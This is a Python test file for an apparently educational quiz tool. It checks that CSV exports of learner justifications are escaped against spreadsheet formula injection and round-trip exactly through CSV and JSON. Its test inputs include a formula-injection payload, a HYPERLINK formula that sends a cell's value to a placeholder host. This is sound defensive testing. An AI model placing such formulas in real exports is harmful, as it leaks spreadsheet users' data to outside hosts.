"""Exports are safe to open in a spreadsheet (no cell runs as a formula) and read back losslessly."""

from __future__ import annotations

import csv
import json

import pytest

from claimlab import ProgressStore, export_answers
from claimlab.classroom import read_class
from claimlab.export import FORMULA_START, from_spreadsheet_safe, spreadsheet_safe

TEXTS = [
    '=HYPERLINK("http://example.org/?leak="&A1,"click")',
    "+1 because the verb is the outlet's",
    "-it is a quote",
    "@SUM(1+1)",
    "\tindented",
    "\rcarriage return first",
    "'=already quoted by the learner",
    "''+two quotes",
    "'just a quote at the start",
    "'",
    "two lines\r\nin Windows style, and a lone\rcarriage return",
    "-a formula\non two lines",
    "a = b, not a formula",
    "",
]


@pytest.mark.parametrize("text", TEXTS)
def test_spreadsheet_safe_is_undone_exactly(text):
    safe = spreadsheet_safe(text)
    assert not safe.startswith(FORMULA_START)
    assert from_spreadsheet_safe(safe) == text
    assert safe == text or safe == "'" + text


def test_justifications_round_trip_through_csv_and_json_exports(tmp_path):
    store = ProgressStore(tmp_path / "home")
    for number, text in enumerate(TEXTS, start=1):
        store.record(learner="l", notebook="06", quiz="q", item=f"S{number:02d}", dimension="source",
                     answer="OUTLET", correct=None, kind="justification", justification=text)  # fmt: skip
    csv_path, json_path = export_answers(tmp_path / "class" / "answers-owl.csv", "owl", store=store)

    with csv_path.open(encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.DictReader(handle) for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]  # nothing a spreadsheet would run
    with csv_path.open(encoding="utf-8", newline="") as handle:
        written = [row["justification"] for row in csv.DictReader(handle)]
    assert written[0] == "'" + TEXTS[0] and written[-2:] == TEXTS[-2:]

    # The JSON is not opened by spreadsheets: it keeps the text exactly as saved.
    assert [a["justification"] for a in json.loads(json_path.read_text(encoding="utf-8"))["attempts"]] == TEXTS

    from_csv = read_class(csv_path.parent)
    assert from_csv.problems == [] and list(from_csv.attempts["justification"]) == TEXTS
    csv_path.unlink()
    from_json = read_class(json_path.parent)
    assert from_json.files_read == ["answers-owl.json"] and list(from_json.attempts["justification"]) == TEXTS
